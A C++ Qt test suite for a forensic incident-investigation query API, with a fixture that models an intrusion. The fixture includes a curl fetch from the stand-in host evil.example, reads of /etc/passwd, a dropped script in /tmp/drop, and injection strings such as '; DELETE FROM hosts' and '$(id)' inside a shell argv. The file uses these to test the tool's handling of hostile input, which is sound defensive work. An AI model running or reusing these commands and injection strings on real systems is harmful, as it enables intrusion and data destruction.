// SPDX-License-Identifier: GPL-3.0-or-later
// The query API over a case, on a SQLite case file and on a real PostgreSQL cluster started here: the scenario of
// queryfixture.h is imported once per engine through the real importer, and every query's answer is compared whole
// (which rows, in which order, with which values) — hostile names and paths included.
#include "activityqueries.h"
#include "bytetext.h"
#include "coveragequeries.h"
#include "pointintimequeries.h"
#include "processqueries.h"
#include "queryfixture.h"
#include "searchqueries.h"
#include "skip.h"

#include <QJsonObject>
#include <QTemporaryDir>
#include <QTest>

using namespace Qt::StringLiterals;
using namespace Deck::Core;
using namespace Deck::TestSupport;

class TestQueries : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase_data();
    void init();

    void rootsAndChildren();
    void ancestorsAcrossArchives();
    void descendantsBounded();
    void processDid();
    void whoTouched_data();
    void whoTouched();
    void whoConnected();
    void runningAt_data();
    void runningAt();
    void connectionsAt();
    void search_data();
    void search();
    void hostileTextIntact();
    void coverage();

private:
    qint64 id(qint64 pid, const QString &host = u"alpha"_s);
    qint64 hostId(const QString &host);
    static QList<qint64> pids(const QList<ProcessRow> &rows);

    ScenarioCases m_cases;
    Database *m_db = nullptr;
};

void TestQueries::initTestCase_data()
{
    ScenarioCases::addEngineRows();
}

// The scenario is imported once per engine and shared by the tests (they only read).
void TestQueries::init()
{
    QFETCH_GLOBAL(QString, engine);
    if (engine == "postgresql"_L1 && !m_cases.hasPostgres())
        FLIGHT_SKIP("PostgreSQL could not be started (see the warning above)");
    QString error;
    m_db = m_cases.get(engine, &error);
    QVERIFY2(m_db, qPrintable(error));
}

qint64 TestQueries::hostId(const QString &host)
{
    auto found = findHost(*m_db, host);
    return found ? *found : -1;
}

qint64 TestQueries::id(qint64 pid, const QString &host)
{
    auto process = ProcessQueries(*m_db).processByPid(hostId(host), pid);
    return process ? process->id : -1;
}

QList<qint64> TestQueries::pids(const QList<ProcessRow> &rows)
{
    QList<qint64> list;
    for (const ProcessRow &row : rows)
        list.append(row.pid);
    return list;
}

void TestQueries::rootsAndChildren()
{
    ProcessQueries queries(*m_db);
    // 200's parent arrived in the second archive: 100 is alpha's only root.
    auto roots = queries.roots(hostId(u"alpha"_s));
    QVERIFY2(roots.ok(), qPrintable(roots.error().message));
    QCOMPARE(pids(roots->rows), QList<qint64>{100});
    QVERIFY(roots->rows[0].hasChildren);
    QCOMPARE(roots->rows[0].comm, u"sshd"_s);
    QCOMPARE(roots->rows[0].parentPid, std::optional<qint64>(1));
    QVERIFY(!roots->next);
    QCOMPARE(pids(queries.roots(hostId(u"beta"_s))->rows), QList<qint64>{500});
    // A range after 100's start still holds it (it never exited); one that ends before its start does not.
    QCOMPARE(pids(queries.roots(hostId(u"alpha"_s), {QueryScenario::at(2000), QueryScenario::at(3000)})->rows),
             QList<qint64>{100});
    QVERIFY(queries.roots(hostId(u"alpha"_s), {std::nullopt, QueryScenario::at(-6000)})->rows.isEmpty());

    // Children of bash by start time, two to a page.
    const PageRequest two{2, std::nullopt};
    auto first = queries.children(id(200), two);
    QVERIFY(first.ok());
    QCOMPARE(pids(first->rows), (QList<qint64>{300, 301}));
    QVERIFY(first->next);
    QCOMPARE(first->next->id, id(301));
    auto second = queries.children(id(200), {2, first->next});
    QCOMPARE(pids(second->rows), QList<qint64>{400});
    QVERIFY(!second->next);
    QVERIFY(second->rows[0].hasChildren);
    QVERIFY(!first->rows[0].hasChildren);
    QVERIFY(queries.children(id(401))->rows.isEmpty());

    const auto curl = queries.process(id(300));
    QVERIFY(curl.ok());
    QCOMPARE(curl->argv, QByteArray("/usr/bin/curl\0http://evil.example/x", 35));
    QCOMPARE(curl->exe, QByteArray("/usr/bin/curl"));
    QCOMPARE(curl->startTs, QueryScenario::at(20));
    QCOMPARE(curl->exitTs, std::optional<qint64>(QueryScenario::at(100)));
    QCOMPARE(curl->exitCode, std::optional<qint64>(0));
    QCOMPARE(curl->uid, std::optional<qint64>(1000));
    QCOMPARE(queries.process(999999).error().code, int(StoreReason::NotFound));
}

void TestQueries::ancestorsAcrossArchives()
{
    ProcessQueries queries(*m_db);
    auto chain = queries.ancestors(id(401));
    QVERIFY2(chain.ok(), qPrintable(chain.error().message));
    QCOMPARE(pids(*chain), (QList<qint64>{400, 200, 100})); // 100's row came in a later archive than 200's
    QCOMPARE(chain->constLast().parentId, std::nullopt);
    QCOMPARE(chain->constLast().parentPid, std::optional<qint64>(1)); // named, not in the case
    QVERIFY(queries.ancestors(id(100))->isEmpty());
}

void TestQueries::descendantsBounded()
{
    ProcessQueries queries(*m_db);
    auto all = queries.descendants(id(100));
    QVERIFY2(all.ok(), qPrintable(all.error().message));
    QList<std::pair<qint64, int>> got;
    for (const TreeRow &row : all->rows)
        got.append({row.process.pid, row.depth});
    QCOMPARE(got, (QList<std::pair<qint64, int>>{{100, 0}, {200, 1}, {300, 2}, {301, 2}, {400, 2}, {401, 3}}));
    QVERIFY(!all->truncated);
    auto shallow = queries.descendants(id(100), 1);
    QCOMPARE(shallow->rows.size(), 2);
    QVERIFY(shallow->truncated);
    auto few = queries.descendants(id(100), ProcessQueries::kMaxDepth, 3);
    QCOMPARE(few->rows.size(), 3);
    QVERIFY(few->truncated);
    QCOMPARE(queries.descendants(999999).error().code, int(StoreReason::NotFound));

    // The forest of a host in display order: each process followed by its subtree, siblings by start time.
    auto forest = queries.forest(hostId(u"alpha"_s));
    QVERIFY2(forest.ok(), qPrintable(forest.error().message));
    QList<std::pair<qint64, int>> order;
    for (const TreeRow &row : forest->rows)
        order.append({row.process.pid, row.depth});
    QCOMPARE(order, (QList<std::pair<qint64, int>>{{100, 0}, {200, 1}, {300, 2}, {301, 2}, {400, 2}, {401, 3}}));
    QVERIFY(!forest->truncated);
    auto cut = queries.forest(hostId(u"alpha"_s), {}, 2);
    QCOMPARE(cut->rows.size(), 5);
    QVERIFY(cut->truncated);
    QVERIFY(queries.forest(hostId(u"alpha"_s), {std::nullopt, QueryScenario::at(-6000)})->rows.isEmpty());
}

void TestQueries::processDid()
{
    auto did = ActivityQueries(*m_db).did(id(300));
    QVERIFY2(did.ok(), qPrintable(did.error().message));
    QCOMPARE(did->process.pid, 300);
    QCOMPARE(did->events.size(), 2);
    QCOMPARE(did->events[0].kind, u"proc.exec"_s);
    QVERIFY(did->events[0].detail.contains("evil.example"));
    QCOMPARE(did->events[1].kind, u"proc.exit"_s);
    QCOMPARE(did->events[1].ts, QueryScenario::at(100));
    QCOMPARE(did->files.size(), 2);
    QCOMPARE(did->files[0].path, QByteArray("/etc/passwd"));
    QCOMPARE(did->files[0].op, u"open"_s);
    QCOMPARE(did->files[1].path, QByteArray("/tmp/drop/a.sh"));
    QCOMPARE(did->files[1].op, u"write"_s);
    QCOMPARE(did->connections.size(), 1);
    QCOMPARE(did->connections[0].raddr, u"203.0.113.5"_s);
    QCOMPARE(did->connections[0].rport, std::optional<qint64>(443));
    QCOMPARE(did->connections[0].lport, 40300);
    QVERIFY(did->children.isEmpty());
    QCOMPARE(did->stateChanges.size(), 1);
    QCOMPARE(did->stateChanges[0].check, u"modules"_s);
    QCOMPARE(did->stateChanges[0].severity, u"medium"_s);
    QVERIFY(!did->truncated);
    // A window too narrow to reach the state change at @90 from a lifetime of @20..@100 still holds it (it is
    // inside the lifetime); python3's lifetime (@1010, no exit, last seen @1040) is far from it.
    QCOMPARE(ActivityQueries(*m_db).did(id(300), 0)->stateChanges.size(), 1);
    auto python = ActivityQueries(*m_db).did(id(400), 1000000);
    QVERIFY(python->stateChanges.isEmpty());
    QCOMPARE(pids(python->children), QList<qint64>{401});
    QCOMPARE(python->connections[0].rport, std::optional<qint64>(22));
}

void TestQueries::whoTouched_data()
{
    QTest::addColumn<QByteArray>("path");
    QTest::addColumn<int>("match");
    QTest::addColumn<QList<qint64>>("pids");
    QTest::addColumn<QList<QByteArray>>("paths");
    const int exact = int(PathMatch::Exact), prefix = int(PathMatch::Prefix), glob = int(PathMatch::Glob);
    QTest::newRow("exact") << QByteArray("/etc/passwd") << exact << QList<qint64>{300, 400}
                           << QList<QByteArray>{"/etc/passwd", "/etc/passwd"};
    QTest::newRow("exact, only a prefix") << QByteArray("/etc/pass") << exact << QList<qint64>{} << QList<QByteArray>{};
    QTest::newRow("prefix") << QByteArray("/tmp/drop/") << prefix << QList<qint64>{300, 301}
                            << QList<QByteArray>{"/tmp/drop/a.sh", "/tmp/drop/b.bin"};
    QTest::newRow("prefix of everything")
        << QByteArray("/") << prefix << QList<qint64>{300, 300, 301, 301, 400, 401}
        << QList<QByteArray>{"/etc/passwd", "/tmp/drop/a.sh", "/tmp/drop/b.bin", QueryScenario::hostilePath(),
                             "/etc/passwd", "/var/log/x"};
    QTest::newRow("glob") << QByteArray("/tmp/*.bin") << glob << QList<qint64>{301}
                          << QList<QByteArray>{"/tmp/drop/b.bin"};
    QTest::newRow("glob, leading star") << QByteArray("*passwd") << glob << QList<qint64>{300, 400}
                                        << QList<QByteArray>{"/etc/passwd", "/etc/passwd"};
    QTest::newRow("glob, one character") << QByteArray("/tmp/drop/?.sh") << glob << QList<qint64>{300}
                                         << QList<QByteArray>{"/tmp/drop/a.sh"};
    QTest::newRow("glob, escaped wildcards and SQL wildcards literal")
        << QByteArray("/tmp/'*\\%\\_\\*\\?[x]*") << glob << QList<qint64>{301}
        << QList<QByteArray>{QueryScenario::hostilePath()};
    QTest::newRow("glob, % is not a wildcard")
        << QByteArray("/tmp/%") << glob << QList<qint64>{} << QList<QByteArray>{};
    QTest::newRow("hostile, exact") << QueryScenario::hostilePath() << exact << QList<qint64>{301}
                                    << QList<QByteArray>{QueryScenario::hostilePath()};
    QTest::newRow("hostile, prefix") << QueryScenario::hostilePath().left(20) << prefix << QList<qint64>{301}
                                     << QList<QByteArray>{QueryScenario::hostilePath()};
}

void TestQueries::whoTouched()
{
    QFETCH(QByteArray, path);
    QFETCH(int, match);
    QFETCH(QList<qint64>, pids);
    QFETCH(QList<QByteArray>, paths);
    auto rows = ActivityQueries(*m_db).whoTouched(path, PathMatch(match));
    QVERIFY2(rows.ok(), qPrintable(rows.error().message));
    QList<qint64> gotPids;
    QList<QByteArray> gotPaths;
    for (const FileTouchRow &row : rows->rows) {
        gotPids.append(row.process.pid);
        gotPaths.append(row.event.path);
    }
    QCOMPARE(gotPids, pids);
    QCOMPARE(gotPaths, paths);
    // The same rows one at a time, through the cursor.
    QList<qint64> paged;
    PageRequest page{1, std::nullopt};
    for (int i = 0; i < 10; ++i) {
        auto one = ActivityQueries(*m_db).whoTouched(path, PathMatch(match), {}, page);
        QVERIFY(one.ok());
        for (const FileTouchRow &row : one->rows)
            paged.append(row.process.pid);
        if (!one->next)
            break;
        page.after = one->next;
    }
    QCOMPARE(paged, pids);
}

void TestQueries::whoConnected()
{
    ActivityQueries queries(*m_db);
    const auto connected
        = [&](const QString &address, std::optional<qint64> port, Side side, const TimeRange &range = {}) {
              QStringList got;
              auto rows = queries.whoConnected(address, port, side, range);
              if (!rows)
                  return QStringList{rows.error().message};
              for (const ConnectionRow &row : rows->rows)
                  got.append(u"%1/%2 %3:%4"_s.arg(row.process ? row.process->pid : -1)
                                 .arg(row.process ? row.process->comm : QString(), row.event.raddr)
                                 .arg(row.event.rport.value_or(-1)));
              return got;
          };
    QCOMPARE(connected(u"203.0.113.5"_s, std::nullopt, Side::Either),
             (QStringList{u"300/curl 203.0.113.5:443"_s, u"500/wget 203.0.113.5:443"_s}));
    QCOMPARE(connected({}, 22, Side::Either), QStringList{u"400/python3 198.51.100.7:22"_s});
    QCOMPARE(connected(u"198.51.100.7"_s, 443, Side::Remote), QStringList{});
    // The local end: alpha's address, and one port of it.
    QCOMPARE(connected(u"10.0.0.2"_s, std::nullopt, Side::Local),
             (QStringList{u"300/curl 203.0.113.5:443"_s, u"400/python3 198.51.100.7:22"_s}));
    QCOMPARE(connected(u"10.0.0.2"_s, 40400, Side::Either), QStringList{u"400/python3 198.51.100.7:22"_s});
    QCOMPARE(connected(u"10.0.0.2"_s, std::nullopt, Side::Remote), QStringList{});
    QCOMPARE(connected(u"203.0.113.5"_s, std::nullopt, Side::Either, {QueryScenario::at(81), std::nullopt}),
             QStringList{u"500/wget 203.0.113.5:443"_s});
    auto hostOf = queries.whoConnected(u"203.0.113.5"_s, std::nullopt, Side::Either);
    QCOMPARE(hostOf->rows[1].hostId, hostId(u"beta"_s));
    QVERIFY(!queries.whoConnected({}, std::nullopt, Side::Either).ok());
}

void TestQueries::runningAt_data()
{
    QTest::addColumn<qint64>("atMs");
    QTest::addColumn<QStringList>("expected");
    QTest::newRow("@45") << qint64(45)
                         << QStringList{u"100 running"_s, u"200 running"_s, u"300 running"_s, u"301 running"_s};
    QTest::newRow("@1015, curl gone") << qint64(
        1015) << QStringList{u"100 running"_s, u"200 running"_s, u"301 running"_s, u"400 running"_s};
    // After the last archive: nothing exited since, but nothing was watched either.
    QTest::newRow("@6000, after coverage") << qint64(6000)
                                           << QStringList{u"100 alive at last sight"_s, u"301 alive at last sight"_s,
                                                          u"400 alive at last sight"_s, u"401 alive at last sight"_s};
}

void TestQueries::runningAt()
{
    QFETCH(qint64, atMs);
    QFETCH(QStringList, expected);
    auto running = PointInTimeQueries(*m_db).runningAt(hostId(u"alpha"_s), QueryScenario::at(atMs));
    QVERIFY2(running.ok(), qPrintable(running.error().message));
    QStringList got;
    for (const RunningProcess &row : running->rows)
        got.append(u"%1 %2"_s.arg(row.process.pid).arg(livenessName(row.liveness)));
    QCOMPARE(got, expected);
    // Before the host's boot the case knows nothing.
    QVERIFY(PointInTimeQueries(*m_db).runningAt(hostId(u"alpha"_s), QueryScenario::at(-4000000))->rows.isEmpty());
}

void TestQueries::connectionsAt()
{
    PointInTimeQueries queries(*m_db);
    const auto open = [&](qint64 ms) {
        QStringList got;
        auto rows = queries.connectionsAt(hostId(u"alpha"_s), QueryScenario::at(ms));
        if (!rows)
            return QStringList{rows.error().message};
        for (const OpenConnection &row : *rows)
            got.append(
                u"%1:%2 %3"_s.arg(row.opened.raddr).arg(row.opened.rport.value_or(-1)).arg(livenessName(row.liveness)));
        return got;
    };
    QCOMPARE(open(79), QStringList{});
    QCOMPARE(open(90), QStringList{u"203.0.113.5:443 running"_s});
    QCOMPARE(open(1025), QStringList{u"198.51.100.7:22 running"_s}); // curl exited at @100
    QCOMPARE(open(6000), QStringList{u"198.51.100.7:22 alive at last sight"_s});
}

void TestQueries::search_data()
{
    QTest::addColumn<QByteArray>("needle");
    QTest::addColumn<QStringList>("processes");
    QTest::addColumn<QList<QByteArray>>("paths");
    QTest::newRow("argv") << QByteArray("evil.example") << QStringList{u"500 argv"_s, u"300 argv"_s}
                          << QList<QByteArray>{};
    QTest::newRow("exe and argv[0]") << QByteArray("python") << QStringList{u"400 argv,exe,comm"_s}
                                     << QList<QByteArray>{"/usr/bin/python3"}; // exe paths are interned too
    QTest::newRow("paths") << QByteArray("/tmp/drop") << QStringList{}
                           << QList<QByteArray>{"/tmp/drop/a.sh", "/tmp/drop/b.bin"};
    QTest::newRow("cwd") << QByteArray("/root") << QStringList{u"200 cwd"_s, u"500 cwd"_s, u"300 cwd"_s,
                                                               u"301 cwd"_s, u"400 cwd"_s, u"401 cwd"_s}
                         << QList<QByteArray>{};
    QTest::newRow("SQL text") << QByteArray("DROP TABLE") << QStringList{u"301 comm"_s}
                              << QList<QByteArray>{QueryScenario::hostilePath()};
    QTest::newRow("not UTF-8") << QByteArray("\xff") << QStringList{u"301 argv"_s}
                               << QList<QByteArray>{QueryScenario::hostilePath()};
    QTest::newRow("LIKE wildcards are literal")
        << QByteArray("%_") << QStringList{u"301 comm"_s} << QList<QByteArray>{QueryScenario::hostilePath()};
    QTest::newRow("nothing") << QByteArray("no such text") << QStringList{} << QList<QByteArray>{};
}

void TestQueries::search()
{
    QFETCH(QByteArray, needle);
    QFETCH(QStringList, processes);
    QFETCH(QList<QByteArray>, paths);
    auto results = SearchQueries(*m_db).search(needle);
    QVERIFY2(results.ok(), qPrintable(results.error().message));
    QStringList got;
    for (const ProcessHit &hit : results->processes)
        got.append(u"%1 %2"_s.arg(hit.process.pid).arg(hit.fields.join(u',')));
    QCOMPARE(got, processes);
    QList<QByteArray> gotPaths;
    for (const PathHit &hit : results->paths)
        gotPaths.append(hit.path);
    QCOMPARE(gotPaths, paths);
    QVERIFY(!results->truncated);
}

void TestQueries::hostileTextIntact()
{
    // Stored intact and found by its own bytes: the name by search, the argv with its empty and non-UTF-8 elements.
    auto results = SearchQueries(*m_db).search(QueryScenario::hostileComm().toUtf8());
    QVERIFY(results.ok());
    QCOMPARE(results->processes.size(), 1);
    const ProcessRow &row = results->processes[0].process;
    QCOMPARE(row.comm, QueryScenario::hostileComm());
    QCOMPARE(argvElements(row.argv), QueryScenario::hostileArgv());
    QCOMPARE(argvJson(row.argv).at(4).toObject().value(u"b64"_s).toString(), u"//4="_s);
    QCOMPARE(displayArgv(row.argv),
             u"/bin/sh -c \"echo '; DELETE FROM hosts;\\n\\\"$(id)\\\" \\\\x00 ?\" \"\" \\xff\\xfe"_s);
    auto touched = ActivityQueries(*m_db).whoTouched(QueryScenario::hostilePath(), PathMatch::Exact);
    QVERIFY(touched.ok());
    QCOMPARE(touched->rows.size(), 1);
    QCOMPARE(touched->rows[0].event.path, QueryScenario::hostilePath());
    QCOMPARE(touched->rows[0].process.comm, QueryScenario::hostileComm());
}

void TestQueries::coverage()
{
    auto hosts = CoverageQueries(*m_db).coverage();
    QVERIFY2(hosts.ok(), qPrintable(hosts.error().message));
    QCOMPARE(hosts->size(), 2);
    const HostCoverage &alpha = hosts->at(0);
    QCOMPARE(alpha.hostname, u"alpha"_s);
    QCOMPARE(alpha.losses.size(), 1);
    QCOMPARE(alpha.losses[0].source, u"proc.ebpf"_s);
    QCOMPARE(alpha.losses[0].count, 17);
    QCOMPARE(alpha.losses[0].ts, QueryScenario::at(110));
    QCOMPARE(alpha.losses[0].lastTs, std::optional<qint64>(QueryScenario::at(115)));
    QCOMPARE(alpha.losses[0].reason, u"ring buffer full"_s);
    QCOMPARE(alpha.gaps.size(), 1);
    QCOMPARE(alpha.gaps[0].firstMissing, 3);
    QCOMPARE(alpha.gaps[0].lastMissing, 3);
    QCOMPARE(alpha.gaps[0].afterTs, std::optional<qint64>(QueryScenario::at(1040)));
    QCOMPARE(alpha.gaps[0].beforeTs, QueryScenario::at(5000));
    QCOMPARE(alpha.downtime.size(), 2);
    QCOMPARE(alpha.downtime[0].from, QueryScenario::at(120));
    QCOMPARE(alpha.downtime[0].to, QueryScenario::at(1000));
    QVERIFY(alpha.downtime[0].clean);
    QCOMPARE(alpha.downtime[1].from, QueryScenario::at(1040)); // crashed: last heard of at the end of seq 2
    QCOMPARE(alpha.downtime[1].to, QueryScenario::at(5000));
    QVERIFY(!alpha.downtime[1].clean);
    const HostCoverage &beta = hosts->at(1);
    QVERIFY(beta.losses.isEmpty() && beta.gaps.isEmpty() && beta.downtime.isEmpty());
    // Within a range that ends before the crash: the loss and the clean downtime only.
    auto early = CoverageQueries(*m_db).coverage(hostId(u"alpha"_s), {std::nullopt, QueryScenario::at(1001)});
    QCOMPARE(early->size(), 1);
    QCOMPARE(early->at(0).losses.size(), 1);
    QCOMPARE(early->at(0).gaps.size(), 0);
    QCOMPARE(early->at(0).downtime.size(), 1);
}

QTEST_GUILESS_MAIN(TestQueries)
#include "tst_queries.moc"
